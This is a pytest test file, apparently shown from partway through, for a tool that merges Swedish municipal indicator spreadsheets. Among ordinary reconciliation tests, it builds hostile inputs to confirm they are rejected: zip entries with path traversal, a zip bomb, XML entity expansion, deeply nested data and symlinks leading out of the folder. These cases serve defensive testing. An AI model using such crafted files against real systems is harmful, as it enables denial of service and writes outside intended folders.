        assert b"<t>ID</t>" in data
        return f"<!DOCTYPE x [{entities}]>".encode() + data.replace(b"<t>ID</t>", b"<t>&j;</t>", 1)

    repack(path, {SHEET2: edit})


BAD_FILES = [
    pytest.param("svar.xlsx", raw(b""), ["F01"], id="0 bytes"),
    *[pytest.param("svar.xlsx", cut(s), ["F01"], id=f"cut at {s:.1%}") for s in (0.001, 0.3, 0.7, 0.95, 0.999)],
    pytest.param("svar.xlsx", raw(damage_middle), ["F01"], id="damaged in the middle"),
    pytest.param("svar.xlsx", raw(bytes(n * 73 % 251 for n in range(20_000))), ["F01"], id="random bytes"),
    pytest.param("svar.xlsx", raw("Förskola;97\r\n".encode("cp1252")), ["F01"], id="text renamed"),
    pytest.param("svar.xlsx", raw(b"<html><table><tr><td>97</table>"), ["F01"], id="html renamed"),
    pytest.param("svar.xlsx", raw(compound_file({"EncryptedPackage": bytes(5000)})), ["F02"], id="password"),
    pytest.param("svar.xlsx", raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3000)), ["F01"], id="empty container"),
    pytest.param("svar.xlsx", raw(archive_of({"foto.jpg": b"x"})), ["F01"], id="zip without workbook"),
    pytest.param("svar.xlsx", raw(archive_of({"../../x": b"x", "/etc/x": b""})), ["F01"], id="paths out of the zip"),
    pytest.param(
        "svar.xlsx",
        raw(archive_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})),
        ["F06"],
        id="docx renamed",
    ),
    *[
        pytest.param(f"svar{ext}", raw(b"%PDF-1.7 ..."), ["F06"], id=ext)
        for ext in (".pdf", ".docx", ".csv", ".eml", ".PDF", ".jpg", "")
    ],
    pytest.param("svar.xlsx", foreign, ["F03"], id="foreign workbook"),
    pytest.param("svar.xlsx", stamp_says("omgång", "Delår"), ["F04"], id="other round"),
    pytest.param("svar.xlsx", stamp_says("år", "2023"), ["F04"], id="other year"),
    pytest.param("svar.xlsx", stamp_says("avser", "Prognos"), ["F04"], id="forecast"),
    pytest.param("svar.xlsx", stamp_says("kommun", "Annans kommun"), ["F04"], id="other municipality"),
    pytest.param("svar.xlsx", stamp_says("förvaltning", "XYZ"), ["F08"], id="unknown department"),
    pytest.param("svar.xlsx", stamp_says("år", "9" * 5000), None, id="a year of 5000 digits"),
    pytest.param("svar.xlsx", property_says("[" * 200_000), None, id="stamp nested 200 000 deep"),
    pytest.param("svar.xlsx", property_says('[1e999, "", 1e999, "", "", "BIL"]'), None, id="an infinite year"),
    pytest.param("svar.xlsx", bomb, ["F05"], id="zip bomb"),
    pytest.param("svar.xlsx", bomb_that_claims_less, None, id="zip bomb that claims less"),
    pytest.param("svar.xlsx", many_parts, ["F05"], id="3000 parts"),
    pytest.param("svar.xlsx", billion_laughs, ["F01"], id="entity expansion"),
]


@pytest.mark.parametrize(("name", "spoil", "expected"), BAD_FILES)
def test_a_bad_file_is_reported_and_changes_nothing_else(
    master: Master, round_: RoundFolder, name: str, spoil: Callable[[Path], None], expected: list[str] | None
) -> None:
    put(master.filled["Bildning"], round_)
    path = partial(round_, "x.xlsx", {id_: value("klart" if id_ in IDS[8:] else 0.5) for id_ in IDS}, LATE).rename(
        round_.replies / name
    )
    spoil(path)
    with within(8):
        document = read(round_)
    assert by_id(document, place=True) == by_id(master.clean, place=True)
    findings = new_findings(document, master.clean)
    assert {f["fil"] for f in findings} == {name}
    errors = [f for f in findings if f["nivå"] == "fel"]
    assert len(errors) == 1
    if expected is not None:
        assert codes(errors) == expected
    assert name in errors[0]["meddelande"]
    assert errors[0]["gör_så_här"]
    (entry,) = (e for e in document["inlämningar"] if e["fil"] == name)
    assert (entry["status"], entry["vald"]) == ("avvisad", False)
    for key in ("använda", "ersatta", "ignorerade"):
        assert document["avstämning"][key] == master.clean["avstämning"][key]


def test_an_answer_for_another_round_is_not_shown_as_one_for_this(master: Master, round_: RoundFolder) -> None:
    stamp_says("år", "2023")(put(master.filled["Bildning"], round_))
    document = read(round_)
    for id_ in BILDNING:
        row = by_id(document)[id_]
        assert (row["bedömning"], row["utfall"], row["utfall_rått"], row["kommentar"]) == ("svar saknas",) + (
            None,
        ) * 3
    assert document["avstämning"]["avvisade"] == 13


def test_what_nobody_sent_is_ignored(master: Master, round_: RoundFolder) -> None:
    put(master.filled["Bildning"], round_)
    for name in ("~$Bildning.xlsx", ".DS_Store", "Thumbs.db", "desktop.ini", "1A2B.tmp", "__MACOSX/._Bildning.xlsx"):
        put(master.filled["Övriga"], round_, name).write_bytes(b"\x05Kim")
    assert read(round_) == master.clean


@pytest.fixture
def linked(master: Master, round_: RoundFolder) -> RoundFolder:
    """A round with a link to a file outside, and a link to a folder outside."""
    outside = round_.path.parent / "utanför"
    outside.mkdir()
    shutil.copyfile(master.filled["Bildning"], outside / "hemlig.xlsx")
    (round_.replies / "länk.xlsx").symlink_to(outside / "hemlig.xlsx")
    (round_.replies / "mapp").symlink_to(outside, target_is_directory=True)
    (round_.replies / "bruten.xlsx").symlink_to(outside / "finns inte.xlsx")
    return round_


def test_a_link_out_of_the_folder_is_not_followed(linked: RoundFolder) -> None:
    register = read_register(linked.register)
    document = as_json(merge(register, read_replies(linked, register)))
    assert {by_id(document)[id_]["bedömning"] for id_ in BILDNING} == {"svar saknas"}


def test_a_link_out_of_the_folder_is_reported(linked: RoundFolder) -> None:
    register = read_register(linked.register)
    document = as_json(merge(register, read_replies(linked, register)))
    assert "länk.xlsx" in {f["fil"] for f in document["avvikelser"]}


def test_a_file_beyond_every_size_is_not_taken_into_memory(master: Master, round_: RoundFolder) -> None:
    put(master.filled["Bildning"], round_)
    with (round_.replies / "stor.xlsx").open("wb") as stream:
        stream.truncate(300_000_000)  # a sparse file: no disk is used
    register = read_register(round_.register)
    tracemalloc.start()
    try:
        document = as_json(merge(register, read_replies(round_, register)))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert codes(new_findings(document, master.clean)) == ["F05"]
    assert by_id(document, place=True) == by_id(master.clean, place=True)
    assert peak < 150_000_000


# Absurd extents


def spread(tag: bytes, ref: bytes = b"A1:XFD1048576") -> Callable[[bytes], bytes]:
    """Put one element over the whole sheet, after the cells."""
    elements = {
        b"merge": b'<mergeCells count="1"><mergeCell ref="%s"/></mergeCells>' % ref,
        b"link": b'<hyperlinks><hyperlink ref="%s" location="A1"/></hyperlinks>' % ref,
    }

    def edit(data: bytes) -> bytes:
        anchor = rb"(<pageMargins|<printOptions)" if tag == b"link" else rb"(<conditionalFormatting|<dataValidations)"
        return re.sub(anchor, elements[tag] + rb"\1", data, count=1)

    return edit


def far_away(data: bytes) -> bytes:
    row = b'<row r="1048576" ht="20" customHeight="1"><c r="A1048576" s="1"/><c r="XFD1048576"><v>7</v></c></row>'
    data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', data)
    return data.replace(b"</sheetData>", row + b"</sheetData>")


def test_a_value_in_the_last_cell_is_found_quickly(master: Master, round_: RoundFolder) -> None:
    repack(put(master.filled["Bildning"], round_), {SHEET2: far_away})
    with within(5):
        document = read(round_)
    assert by_id(document, place=True) == by_id(master.clean, place=True)
    finding, engine = new_findings(document, master.clean)
    assert (finding["cell"], finding["värde"]) == ("XFD1048576", "7")
    assert (engine["kod"], engine["nivå"]) == ("F14", "upplysning")


@pytest.mark.parametrize("tag", [b"merge", b"link"])
def test_a_whole_sheet_merged_or_linked_is_done_with_quickly(master: Master, round_: RoundFolder, tag: bytes) -> None:
    put(master.filled["Bildning"], round_)
    repack(put(master.filled["Bildning"], round_, "konstig.xlsx"), {SHEET2: spread(tag)})
    with within(3):
        document = read(round_)
    assert by_id(document) == by_id(master.clean)


def test_a_sheet_of_a_million_cells_is_done_with_quickly(master: Master, round_: RoundFolder) -> None:
    """Not a byte too much for the limits on size; the cells are what costs."""
    put(master.filled["Bildning"], round_)
    rows = b"".join(b'<row r="%d">%s</row>' % (n, b"<c/>" * 500) for n in range(100, 2100))
    repack(
        put(master.filled["Bildning"], round_, "konstig.xlsx"),
        {SHEET2: lambda data: data.replace(b"</sheetData>", rows + b"</sheetData>")},
    )
    with within(3):
        document = read(round_)
    assert by_id(document) == by_id(master.clean)


def test_thousands_of_sheets_that_are_one_are_done_with_quickly(master: Master, round_: RoundFolder) -> None:
    put(master.filled["Bildning"], round_)

    def edit(data: bytes) -> bytes:
        (element,) = re.findall(rb'<sheet [^>]*name="Indikatorer"[^>]*/>', data)
        copies = b"".join(element.replace(b'name="Indikatorer"', b'name="B%d"' % n) for n in range(3000))
        return data.replace(b"</sheets>", copies + b"</sheets>")

    repack(put(master.filled["Bildning"], round_, "konstig.xlsx"), {"xl/workbook.xml": edit})
    with within(5):
        document = read(round_)
    assert by_id(document) == by_id(master.clean)


# Reconciliation

SMALL_IDS = ("ÖK-03", "ÖK-05", "ÖK-09", "HK-05")  # percent, count, word, yes/no
HEADERS = (OUTCOME, "Ej mätt", "Kommentar", "Åtgärd")
#: What one person types: cells of the rows, and cells in rows added below with an ID of theirs, another, or none.
_IN_ROWS = st.dictionaries(st.tuples(st.sampled_from(SMALL_IDS), st.sampled_from(HEADERS)), CONTENT, max_size=10)
_BELOW = st.lists(
    st.tuples(st.sampled_from([*SMALL_IDS, "", "ZZ-99"]), st.sampled_from(HEADERS), CONTENT), max_size=3
)
_FILES = st.lists(st.tuples(_IN_ROWS, _BELOW), min_size=1, max_size=2)


@dataclass(frozen=True)
class Typed:
    """One cell that was typed."""

    file: str
    cell: str
    id_: str
    header: str
    content: Any

    def found(self, document: Json) -> bool:
        """Whether it came out: in its row, in a finding at its cell, or with its whole file."""
        row = next((r for r in document["rader"] if r["indikator_id"] == self.id_), None)
        keys = {OUTCOME: "utfall_rått", "Ej mätt": "ej_mätt", "Kommentar": "kommentar", "Åtgärd": "åtgärd"}
        if row and forms_of(self.content) & {fold(part) for part in str(row[keys[self.header]]).split(" / ")}:
            return True
        if row and self.header == OUTCOME and is_number(self.content, row["utfall_rått"]):
            return True
        for finding in document["avvikelser"]:
            if finding["kod"] in ("F09", "F10") and finding["fil"] == self.file:
                return True
            twice = finding["kod"] == "S06" and "samma svar" in finding["meddelande"]
            if twice and (finding["fil"], finding["indikator_id"]) == (self.file, self.id_):
                return True  # the first of the two is told at its own cell
            shown = finding["värde"] or ""
            if (finding["fil"], finding["cell"]) == (self.file, self.cell) and (
                fold(shown) in forms_of(self.content) or is_number(self.content, shown)
            ):
                return True
            named = f"!{self.cell}" in finding["meddelande"]
            if named and any(f"”{form}”" in fold(finding["meddelande"]) for form in forms_of(self.content)):
                return True
        return False


class Small:
    """A round with one department of four rows; no data class, because hypothesis would print all of it."""

    def __init__(self, folder: RoundFolder, register: Register) -> None:
        self.folder = folder
        self.register = register
        self.template = template(folder, "Små").read_bytes()


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory, annex_file: Path) -> Small:
    folder = RoundFolder(tmp_path_factory.mktemp("small"))
    update_register(folder, read_annex(annex_file))
    assign(folder, {"SMÅ": ("Små", (2, 4, 8, 22))})
    create_templates(folder)
    folder.replies.mkdir()
    register = read_register(folder.register)
    assert tuple(i.id for i in register.indicators_of(register.by_code["SMÅ"])) == SMALL_IDS
    return Small(folder, register)


def type_file(
    small: Small, file: str, in_rows: Mapping[tuple[str, str], Any], below: Sequence[tuple[str, str, Any]]
) -> list[Typed]:
    workbook = load_workbook(io.BytesIO(small.template))
    sheet = indicators(workbook)
    sheet.tables.clear()
    top, headers = columns(sheet)
    cells = [(top + 1 + SMALL_IDS.index(id_), id_, header, content) for (id_, header), content in in_rows.items()]
    cells += [(top + 6 + n, id_, header, content) for n, (id_, header, content) in enumerate(below)]
    typed = []
    for row, id_, header, content in cells:
        sheet.cell(row, headers["ID"]).value = id_ or None
        cell = sheet.cell(row, headers[header])
        cell.value = content
        typed.append(Typed(file, cell.coordinate, id_, header, content))
    workbook.save(small.folder.replies / file)
    return typed


@settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    phases=[Phase.explicit, Phase.generate],  # the lost cells are named; shrinking would take minutes
    suppress_health_check=[HealthCheck.too_slow],
)
@example(files=[({}, [("HK-05", "Ej mätt", -2), ("HK-05", "Ej mätt", -2)]), ({("HK-05", "Ej mätt"): "ö"}, [])])
@given(files=_FILES)
def test_every_cell_that_was_typed_is_accounted_for_once(
    small: Small, files: list[tuple[dict[tuple[str, str], Any], list[tuple[str, str, Any]]]]
) -> None:
    shutil.rmtree(small.folder.replies)
    small.folder.replies.mkdir()
    typed: list[Typed] = []
    for name, (in_rows, added) in zip(("a.xlsx", "b.xlsx"), files, strict=False):
        typed += type_file(small, name, in_rows, added)
    document = as_json(merge(small.register, read_replies(small.folder, small.register)))
    balanced(document)
    assert document["avstämning"]["lästa"] == len(typed)
    lost = [cell for cell in typed if not cell.found(document)]
    assert not lost


def without_saved_time(path: Path) -> None:
    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist() if name != "docProps/core.xml"}
    with zipfile.ZipFile(path, "w") as target:
        for name, data in parts.items():
            target.writestr(name, data)
    os.utime(path, (1_000_000_000, 1_000_000_000))


def test_a_file_that_does_not_say_when_it_was_saved_is_not_the_newest(round_: RoundFolder) -> None:
    fill(template(round_, "Bildning"), round_.replies / "rätt.xlsx", BILDNING)
    fill(template(round_, "Bildning"), round_.replies / "äldre.xlsx", BILDNING | {"ÖK-06": value(1)})
    without_saved_time(round_.replies / "äldre.xlsx")
    document = as_json(consolidate(round_))
    assert next(r["utfall"] for r in document["rader"] if r["indikator_id"] == "ÖK-06") == 4
    assert {s["fil"]: s["vald"] for s in document["inlämningar"] if s["förvaltning"] == "Bildning"} == {
        "rätt.xlsx": True,
        "äldre.xlsx": False,
    }


def test_a_file_with_something_more_is_no_copy(round_: RoundFolder) -> None:
    fill(template(round_, "Bildning"), round_.replies / "a.xlsx", BILDNING)
    workbook = load_workbook(round_.replies / "a.xlsx")
    workbook["Indikatorer"]["AB7"] = "VIKTIGT: gäller bara våren"
    workbook.save(round_.replies / "b.xlsx")
    found = as_json(consolidate(round_))["avvikelser"]
    assert "F09" not in {f["kod"] for f in found}
    assert any(f["värde"] == "VIKTIGT: gäller bara våren" for f in found)


def test_two_comments_are_no_reason_not_to_judge(round_: RoundFolder) -> None:
    path = fill(template(round_, "Bildning"), round_.replies / "a.xlsx", {"ÖK-05": value(4, Kommentar="ett")})
    workbook = load_workbook(path)
    sheet = workbook["Indikatorer"]
    row = next(r for r in range(4, 20) if sheet.cell(r, 1).value == "ÖK-05")
    for column in range(1, 16):
        sheet.cell(30, column).value = sheet.cell(row, column).value
    sheet.cell(30, columns(sheet)[1]["Kommentar"]).value = "två"
    workbook.save(path)
    document = as_json(consolidate(round_))
    judged = next(r for r in document["rader"] if r["indikator_id"] == "ÖK-05")
    assert judged["bedömning"] == "uppfyllt"
    assert "S03" in {f["kod"] for f in document["avvikelser"]}


# Whose a file is when every stamp is gone


def shared_round(tmp_path: Path, annex_file: Path) -> RoundFolder:
    """Two departments that answer for the same rows."""
    folder = RoundFolder(tmp_path / "Delad")
    folder.path.mkdir()
    update_register(folder, read_annex(annex_file))
    assign(folder, {"ALF": ("Alfa", range(5)), "BET": ("Beta", range(5))})
    create_templates(folder)
    return folder


@pytest.mark.parametrize(
    ("name", "title", "code", "department"),
    [
        ("svar.xlsx", True, "F17", "Alfa"),
        ("svar.xlsx", False, "F18", None),
        ("Alfa/svar.xlsx", False, "F17", "Alfa"),
        ("svar från BET.xlsx", False, "F17", "Beta"),
        ("alfabet.xlsx", False, "F18", None),
        ("Alfa och Beta.xlsx", False, "F18", None),
    ],
)
def test_whose_a_file_is_without_a_stamp(
    tmp_path: Path, annex_file: Path, name: str, title: bool, code: str, department: str | None
) -> None:
    folder = shared_round(tmp_path, annex_file)
    path = fill(template(folder, "Alfa"), folder.replies / name, {"ÖK-01": value(0.97)})
    workbook = load_workbook(path)
    lose_every_stamp(workbook)
    if not title:
        workbook["Indikatorer"]["A1"] = None
        del workbook["Läs mig"]
    workbook.save(path)
    document = read(folder)
    (finding,) = (f for f in document["avvikelser"] if f["fil"] == name and f["kod"] in ("F17", "F18"))
    assert finding["kod"] == code
    used = {r["förvaltning"] for r in document["rader"] if r["fil"]}
    assert used == ({department} if department else set())


@pytest.mark.parametrize(
    ("place", "text"),
    [("A2", "Annans kommun, Helår 2024. "), ("A2", "Exempel kommun, Delår 2024. "), ("H3", "Utfall 2023")],
)
def test_a_file_without_a_stamp_from_another_round_is_known_by_what_it_says(
    master: Master, round_: RoundFolder, place: str, text: str
) -> None:
    def change(workbook: Workbook) -> None:
        cell = indicators(workbook)[place]
        assert cell.value
        cell.value = text + (HELP if place == "A2" else "")

    mangled(master, round_, lose_every_stamp, change)
    document = read(round_)
    assert "F04" in codes(document["avvikelser"], "fel")
    assert {by_id(document)[id_]["bedömning"] for id_ in BILDNING} == {"svar saknas"}


def test_the_consolidated_workbook_itself_is_no_reply(master: Master, round_: RoundFolder) -> None:
    put(master.filled["Bildning"], round_)
    consolidate(round_)
    shutil.copyfile(round_.consolidation, round_.replies / "sammanställning.xlsx")
    document = read(round_)
    assert codes(new_findings(document, master.clean)) == ["F03"]
    assert by_id(document) == by_id(master.clean)


def test_answers_in_hidden_rows_count_and_are_told(master: Master, round_: RoundFolder) -> None:
    mangled(master, round_, hide_rows)
    (finding,) = (f for f in read(round_)["avvikelser"] if f["kod"] == "S17")
    assert finding["meddelande"] == (
        "Bildning.xlsx har 4 svar i dolda rader eller kolumner: ÖK-01, ÖK-02 och ÖK-06. "
        "De räknas som alla andra svar."
    )


@pytest.mark.parametrize(
    ("mangle", "told"),
    [
        (sort_rows, "radernas ordning"),
        (move_columns, "kolumnernas ordning"),
        (rename_sheets, "bladets namn, ”Blad1”"),
        (insert_rows, ""),
        (delete_row, ""),
    ],
    ids=lambda x: getattr(x, "__name__", "told"),
)
def test_another_order_is_told_for_the_record(
    master: Master, round_: RoundFolder, mangle: Callable[[Workbook], None], told: str
) -> None:
    mangled(master, round_, mangle)
    found = [f["meddelande"] for f in read(round_)["avvikelser"] if f["kod"] == "S22"]
    wanted = f"I Bildning.xlsx är det här ändrat: {told}. Svaren är lästa på sina rader ändå."
    assert found == ([wanted] if told else [])


@pytest.mark.parametrize("complete_beside", [False, True])
def test_a_file_of_somebody_elses_rows_is_refused_loudly(
    master: Master, round_: RoundFolder, complete_beside: bool
) -> None:
    """Also where a complete answer that was saved later would take its place."""
    put(master.filled["Bildning"], round_)
    for number in range(10):
        edit_register(round_, list(BILDNING)[number], Förvaltning="ÖVR")
    edit_register(round_, "MU-01", Förvaltning="BIL")
    if complete_beside:
        create_templates(round_)
        path = fill(template(round_, "Bildning"), round_.replies / "senare.xlsx", {"MU-01": value(1)})
        put_saved(path, "2030-01-01T10:00:00Z")
    document = read(round_)
    told = [f["kod"] for f in document["avvikelser"] if f["fil"] == "Bildning.xlsx" and f["nivå"] == "fel"]
    assert told == ["F20"]
    filled = sum(content is not None for row in BILDNING.values() for content in row.values())
    assert document["avstämning"]["avvisade"] == filled + 1  # and the row that has moved, in Övriga's answer


@pytest.mark.skipif(sys.platform != "linux", reason="a name of any bytes is Linux' own")
def test_a_name_that_is_no_text_is_a_name_all_the_same(master: Master, round_: RoundFolder) -> None:
    name = os.fsencode(round_.replies) + b"/Bildning \xff.xlsx"
    Path(os.fsdecode(name)).write_bytes(master.filled["Bildning"].read_bytes())
    result = consolidate(round_)
    assert "Bildning ?.xlsx" in {choice.reply.file for choice in result.files if choice.chosen}
